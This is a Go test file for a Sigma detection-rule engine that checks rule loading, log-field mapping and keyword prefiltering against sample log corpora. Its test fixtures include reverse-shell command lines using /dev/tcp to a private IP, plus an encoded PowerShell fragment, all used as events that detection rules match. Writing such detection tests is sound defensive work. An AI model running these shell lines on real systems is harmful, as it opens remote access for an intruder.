package sigma

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/loupe-sec/loupe/internal/detect"
	"github.com/loupe-sec/loupe/internal/event"
	"github.com/loupe-sec/loupe/internal/source"
	"github.com/tidwall/gjson"
)

// readEvents parses a corpus file with loupe's own source parsers.
func readEvents(t testing.TB, path string) []*event.Event {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []*event.Event
	for ev, err := range source.Read(context.Background(), f, source.Options{Name: filepath.Base(path)}) {
		var le *source.LineError
		if errors.As(err, &le) {
			continue // a bad line of a shared corpus
		}
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		out = append(out, ev)
	}
	return out
}

func loadTestRules(t testing.TB) *Ruleset {
	t.Helper()
	rs, err := Load("testdata/rules", Options{})
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

// corpusMatches runs the test rules over a corpus and returns
// "rule title <- summary" lines, sorted.
func corpusMatches(t *testing.T, rs *Ruleset, path string) []string {
	var got []string
	x := rs.NewEngine()
	emit := func(d detect.Detection) {
		got = append(got, d.Rule.Title+" <- "+d.Event.Summary())
	}
	for _, ev := range readEvents(t, path) {
		x.Observe(ev, emit)
	}
	x.Flush(emit)
	sort.Strings(got)
	return got
}

// The test rules over the demo corpora: exactly the expected matches.
func TestCorpusMatches(t *testing.T) {
	rs := loadTestRules(t)
	want := map[string]map[string]int{
		"evtx.jsonl": {
			"Credential Dumping Tools":               3,
			"Download With Certutil Or Bitsadmin":    2,
			"Failed Logon For Administrator":         12,
			"Local Account Discovery With Whoami":    1,
			"Many Failed Logons For One Account":     1,
			"PowerShell Encoded IEX Download Cradle": 2,
			"PsExec Service Installed":               1,
			"Security Log Cleared":                   1,
			"Shadow Copy Or Log Deletion":            1,
			"Event Log Cleared With Wevtutil":        1,
		},
		"falco.jsonl": {"Interactive Shell In Container": 2},
		"auth.log":    {"SSH Failed Password": 23},
	}
	for c, w := range want {
		got := map[string]int{}
		for _, m := range corpusMatches(t, rs, filepath.Join("..", "demo", "corpus", c)) {
			title, _, _ := strings.Cut(m, " <- ")
			got[title]++
		}
		if fmt.Sprint(got) != fmt.Sprint(w) {
			t.Errorf("%s:\n got %v\nwant %v", c, got, w)
		}
	}
}

func TestLoadReport(t *testing.T) {
	rs := loadTestRules(t)
	loaded, byCat := rs.Counts()
	if rs.Files != 16 || loaded != 14 || byCat["invalid"] != 2 || byCat["regex"] != 1 || byCat["aggregation"] != 1 || byCat["expand"] != 1 {
		t.Errorf("files %d loaded %d problems %v", rs.Files, loaded, byCat)
	}
	// The rule collection: global metadata merged, repeat overrides.
	r := rs.Rule("8c1f6a57-6c2e-4a59-9a0b-1f2d1e5a0008")
	if r == nil || r.Title != "Event Log Cleared With Wevtutil" || r.Author != "loupe tests" || r.Level != "high" ||
		r.Logsource.Category != "process_creation" || r.Document != 3 {
		t.Errorf("repeat document: %+v", r)
	}
	if r := rs.Rule("8c1f6a57-6c2e-4a59-9a0b-1f2d1e5a0009"); r == nil || r.Level != "medium" || len(r.Tags) != 0 {
		t.Errorf("after reset: %+v", r)
	}
	if r := rs.Rule("8c1f6a57-6c2e-4a59-9a0b-1f2d1e5a0006"); r == nil || r.attr.Link != "https://example.org/loupe/psexec" ||
		r.tactic.Name != "Lateral Movement" || len(r.techs) != 2 || r.techs[0].ID != "T1021.002" || r.priority.String() != "high" {
		t.Errorf("psexec metadata: %+v %+v", r.attr, r.techs)
	}
	// Without references, the link finds the rule in SigmaHQ by id.
	if r := rs.Rule("8c1f6a57-6c2e-4a59-9a0b-1f2d1e5a0002"); r == nil || !strings.Contains(r.attr.Link, "SigmaHQ") || r.attr.Status != "experimental" {
		t.Errorf("link: %+v", r.attr)
	}
}

func TestUserMapping(t *testing.T) {
	m, err := ParseMapping([]byte(`
all:
  Actor: [actor.name, event:User]
falco:
  Image: data:proc.name
placeholders:
  admins: [root]
`))
	if err != nil {
		t.Fatal(err)
	}
	src := `title: M
logsource: {product: linux}
detection: {sel: {Actor: root, Image: bash}, condition: sel}
---
title: P
logsource: {product: linux}
detection: {sel: {Actor|expand: '%admins%'}, condition: sel}
`
	rs := Parse("m.yml", []byte(src), Options{Mapping: m})
	if len(rs.Problems) > 0 {
		t.Fatal(rs.Problems)
	}
	x := rs.NewEngine()
	falco := &event.Event{Format: event.FormatFalco, User: "root", DataPath: "output_fields",
		Raw: []byte(`{"output_fields":{"proc.name":"bash","proc.exepath":"/usr/bin/bash"}}`)}
	if !x.Match(rs.Rules[0], falco) || !x.Match(rs.Rules[1], falco) {
		t.Error("mapped falco fields do not match")
	}
	js := jsonEvent(`{"actor":{"name":"root"},"Image":"bash"}`)
	if !x.Match(rs.Rules[0], js) {
		t.Error("mapped JSON path does not match")
	}
	for _, bad := range []string{"nosuch: {a: b}", "all: {a: event:Nope}", "all: {a: 3}", "all: {a: ''}"} {
		if _, err := ParseMapping([]byte(bad)); err == nil {
			t.Errorf("%q: no error", bad)
		}
	}
}

// Windows field mapping: Security 4688 names stand in for Sysmon ones, and
// the logsource picks the channel and event ids.
func TestWindowsMapping(t *testing.T) {
	src := `title: W
logsource: {product: windows, category: process_creation}
detection: {sel: {Image|endswith: '\net.exe', ParentImage|endswith: '\cmd.exe'}, condition: sel}
`
	rs := Parse("w.yml", []byte(src), Options{})
	if len(rs.Problems) > 0 {
		t.Fatal(rs.Problems)
	}
	r := rs.Rules[0]
	if fmt.Sprint(r.eventIDs) != "[1 4688]" {
		t.Errorf("event ids %v", r.eventIDs)
	}
	x := rs.NewEngine()
	sec := &event.Event{Format: event.FormatEVTX, EventID: 4688, Channel: "Security", DataPath: "Event.EventData",
		Raw: []byte(`{"Event":{"EventData":{"NewProcessName":"C:\\Windows\\net.exe","ParentProcessName":"C:\\Windows\\cmd.exe"}}}`)}
	if !x.Match(r, sec) {
		t.Error("4688 does not match")
	}
	sec.Channel = "Microsoft-Windows-Sysmon/Operational"
	sec.EventID = 3
	if x.Match(r, sec) {
		t.Error("Sysmon 3 matched a process_creation rule")
	}
	// winlogbeat / ECS: data under winlog.event_data.
	wlb := &event.Event{Format: event.FormatJSON, EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational", DataPath: "winlog.event_data",
		Raw: []byte(`{"winlog":{"event_data":{"Image":"C:\\x\\NET.EXE","ParentImage":"C:\\cmd.exe"}}}`)}
	if !x.Match(r, wlb) {
		t.Error("winlogbeat record does not match")
	}
}

func TestKVMapping(t *testing.T) {
	src := `title: A
logsource: {product: linux, service: auditd}
detection: {sel: {type: EXECVE, a0: wget, exe|endswith: '/wget'}, condition: sel}
`
	rs := Parse("a.yml", []byte(src), Options{})
	x := rs.NewEngine()
	ev := &event.Event{Format: event.FormatSyslog, Message: `type=EXECVE msg=audit(1.2:3): argc=2 a0="wget" a1="http://x" exe="/usr/bin/wget"`}
	if !x.Match(rs.Rules[0], ev) {
		t.Error("auditd key=value text does not match")
	}
	ev.Message = `type=EXECVE msg=audit(1.2:3): argc=2 a0="curl" exe="/usr/bin/curl"`
	if x.Match(rs.Rules[0], ev) {
		t.Error("curl matched")
	}
}

// A Windows record flattened into one JSON object is still a Windows event.
func TestFlatWindowsRecord(t *testing.T) {
	rs := loadTestRules(t)
	x := rs.NewEngine()
	var got []string
	for _, raw := range []string{
		`{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all","Computer":"ws1"}`,
		`{"EventID":"7045","Channel":"System","Provider_Name":"Service Control Manager","ServiceName":"PSEXESVC"}`,
		`{"EventID":1,"Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all"}`, // no channel: not Windows
	} {
		x.Observe(&event.Event{Format: event.FormatJSON, Raw: []byte(raw)}, func(d detect.Detection) { got = append(got, d.Rule.Title) })
	}
	if fmt.Sprint(got) != "[Local Account Discovery With Whoami PsExec Service Installed]" {
		t.Errorf("got %v", got)
	}
}

// Unnamed Windows <Data> items are searched as a list.
func TestWindowsUnnamedData(t *testing.T) {
	rs := Parse("d.yml", []byte(`title: D
logsource: {product: windows, service: powershell-classic}
detection: {sel: {Data|contains: 'HostApplication=powershell -enc'}, condition: sel}
`), Options{})
	x := rs.NewEngine()
	for raw, want := range map[string]bool{
		`{"Event":{"System":{"EventID":400,"Channel":"Windows PowerShell"},"EventData":{"Data":["Available","NewEngineState=Available HostApplication=powershell -enc SQBFAFgA"]}}}`: true,
		`{"Event":{"System":{"EventID":400,"Channel":"Windows PowerShell"},"EventData":{"Data":["Available","HostApplication=powershell.exe"]}}}`:                                    false,
	} {
		var evs []*event.Event
		for ev, err := range source.Read(context.Background(), strings.NewReader(raw+"\n"), source.Options{Name: "d"}) {
			if err != nil {
				t.Fatal(err)
			}
			evs = append(evs, ev)
		}
		if got := x.Match(rs.Rules[0], evs[0]); got != want {
			t.Errorf("%s: %v, want %v (data path %q)", raw, got, want, evs[0].DataPath)
		}
	}
}

// Fields with many literals get the bucket table; few literals are
// searched one by one.
func TestPrefilterTables(t *testing.T) {
	rs := Parse("gen.yml", genRules(600), Options{})
	var bucketed, plain int
	for _, f := range rs.pre.fields {
		tabled := f.short != nil || f.long != nil
		if (len(f.lits) >= bucketMin) != tabled {
			t.Errorf("%v: %d literals, tables %v", f.acc, len(f.lits), tabled)
		}
		if tabled {
			bucketed++
		} else {
			plain++
		}
	}
	if bucketed == 0 || plain == 0 {
		t.Errorf("%d bucketed and %d plain fields", bucketed, plain)
	}
}

// appendQuoted's ASCII path quotes exactly as strconv.Quote, and every
// path yields one quoted line.
func TestAppendQuoted(t *testing.T) {
	for _, s := range []string{``, `C:\Windows\System32\cmd.exe /c "echo a"`, `\\host\share\"x\\`, "ünïcode \\ \"", "tab\there", "a\u2028b", strings.Repeat("x", 300)} {
		got := string(appendQuoted(nil, s, 200))
		if len(s) <= 200 && !strings.ContainsAny(s, "\t") {
			if want := strconv.Quote(s); got != want {
				t.Errorf("appendQuoted(%q) = %s, want %s", s, got, want)
			}
		}
		if u, err := strconv.Unquote(got); err != nil || strings.ContainsAny(got, "\n\r") {
			t.Errorf("appendQuoted(%q) = %s: not one quoted line (%v)", s, got, err)
		} else if len(s) <= 200 && !strings.ContainsAny(s, "\t") && u != s {
			t.Errorf("appendQuoted(%q) round-trips to %q", s, u)
		}
	}
}

// Long values are clipped on a rune boundary and marked, whitespace
// folded, whatever their length.
func TestQuoteClips(t *testing.T) {
	for _, s := range []string{strings.Repeat("é ", 3000), strings.Repeat("a", 5000) + "\n", strings.Repeat(" ", 900) + "x",
		strings.Repeat("ab\tcd ", 100) + strings.Repeat("€", 1000)} {
		q := quote(s, 200)
		u, err := strconv.Unquote(q)
		if err != nil || !utf8.ValidString(u) || len(u) > 200+len("…") || strings.Contains(u, "\uFFFD") || strings.ContainsAny(u, "\t\n") {
			t.Errorf("quote(%.20q…) = %.60s… (%d bytes, %v)", s, q, len(u), err)
		}
		if len(strings.Join(strings.Fields(s), " ")) > 200 && !strings.HasSuffix(u, "…") {
			t.Errorf("quote(%.20q…) clipped without a mark: %.60s", s, q)
		}
	}
}

// skipString agrees with a byte-by-byte reading of JSON string escapes on
// every string of quotes, backslashes and letters up to length 8, behind
// paddings that put it on either side of the short-string seam.
func TestSkipString(t *testing.T) {
	ref := func(s string, i int) int {
		for j := i + 1; j < len(s); j++ {
			switch s[j] {
			case '\\':
				j++
			case '"':
				return j + 1
			}
		}
		return -1
	}
	alphabet := []byte{'"', '\\', 'a'}
	var gen func(prefix []byte)
	n := 0
	gen = func(prefix []byte) {
		for _, pad := range []int{0, 9, 12, 15, 16, 40} { // across the byte-by-byte/IndexByte seam
			s := `"` + strings.Repeat("a", pad) + string(prefix)
			if got, want := skipString(s, 0), ref(s, 0); got != want {
				t.Fatalf("skipString(%q) = %d, want %d", s, got, want)
			}
		}
		n++
		if len(prefix) == 8 {
			return
		}
		for _, c := range alphabet {
			gen(append(prefix, c))
		}
	}
	gen(nil)
	if n < 9000 {
		t.Fatalf("only %d strings tried", n)
	}
}

// Keyword searches are prefiltered on the event's decoded text: escaped
// slashes, quotes and \u escapes in the record, case, the message of a
// syslog line; Observe agrees with a plain evaluation on every event.
func TestKeywordPrefilter(t *testing.T) {
	src := `title: K
id: 6d1c8a52-0000-4000-8000-000000000001
logsource:
    product: linux
detection:
    keywords:
        - '/dev/tcp/'
        - 'say "hi"'
        - 'ünïcode'
    condition: keywords
level: high
`
	rs := Parse("k.yml", []byte(src), Options{})
	if len(rs.Rules) != 1 || rs.Rules[0].pre == nil {
		t.Fatalf("keyword rule not prefiltered: %v %v", rs.Problems, rs.Rules)
	}
	for _, c := range []struct {
		line string
		want bool
	}{
		{`{"cmd":"bash -i >& \/dev\/tcp\/10.0.0.1\/4444 0>&1"}`, true},
		{`{"a":{"b":["x","\u002fdev\u002ftcp\u002f1"]}}`, true},
		{`{"a":"they SAY \"HI\" now"}`, true},
		{`{"a":"\u00dcN\u00cfCODE"}`, true},
		{`{"a":"/dev/null","b":"tcp/"}`, false},
		{`{"say":"hi"}`, false},
		{"Mar 19 23:34:17 web01 bash[1]: exec 5<>/dev/tcp/10.0.0.1/80", true},
		{"Mar 19 23:34:17 web01 bash[1]: nothing here", false},
	} {
		ev, err := source.ParseLine([]byte(c.line), 1, source.Options{})
		if err != nil {
			t.Fatal(err)
		}
		x, y := rs.NewEngine(), rs.NewEngine()
		got := false
		x.Observe(ev, func(detect.Detection) { got = true })
		if plain := y.Match(rs.Rules[0], ev); got != c.want || plain != c.want {
			t.Errorf("%s: Observe %v, plain evaluation %v, want %v", c.line, got, plain, c.want)
		}
	}
}

// Engine.path reads what gjson.Get reads, for every top-level and nested
// key of the corpus records, array indexes and keys they lack.
func TestPathLookup(t *testing.T) {
	var evs []*event.Event
	for _, f := range []string{"app.jsonl", "evtx.jsonl"} {
		evs = append(evs, readEvents(t, filepath.Join("..", "..", "testdata", "benign", f))...)
	}
	for _, f := range []string{"falco.jsonl", "timesketch-flat.jsonl", "timesketch-nested.jsonl"} {
		evs = append(evs, readEvents(t, filepath.Join("..", "..", "testdata", "attack", f))...)
	}
	evs = append(evs, jsonEvent(`{"a":[{"b":1},{"b":"x"}],"c":{"d":{"e":null}},"f":"\u0041","g.h":2,"a":"dup"}`))
	x := (&Ruleset{}).NewEngine()
	n := 0
	for _, ev := range evs {
		raw := string(ev.Raw)
		paths := []string{"missing", "missing.deeper", "a.0.b", "a.1", "c.d.e", "c.d", "f", `g\.h`, "a.#.b"}
		gjson.Parse(raw).ForEach(func(k, v gjson.Result) bool {
			paths = append(paths, escapeKey(k.Str))
			v.ForEach(func(k2, _ gjson.Result) bool {
				paths = append(paths, escapeKey(k.Str)+"."+escapeKey(k2.Str))
				return true
			})
			return true
		})
		x.begin(ev)
		for _, p := range paths {
			var got, want fieldVal
			src := rpath(p)
			gotOK := x.path(&got, &src)
			wantOK := setResult(&want, gjson.Get(raw, p))
			if gotOK != wantOK || got.ok != want.ok || got.null != want.null || got.arr != want.arr || got.s != want.s ||
				(got.arr && got.res.Raw != want.res.Raw) {
				t.Fatalf("%s in %.80s: path %v %+v, gjson %v %+v", p, raw, gotOK, got, wantOK, want)
			}
			n++
		}
	}
	if n < 1000 {
		t.Errorf("only %d lookups compared", n)
	}
}
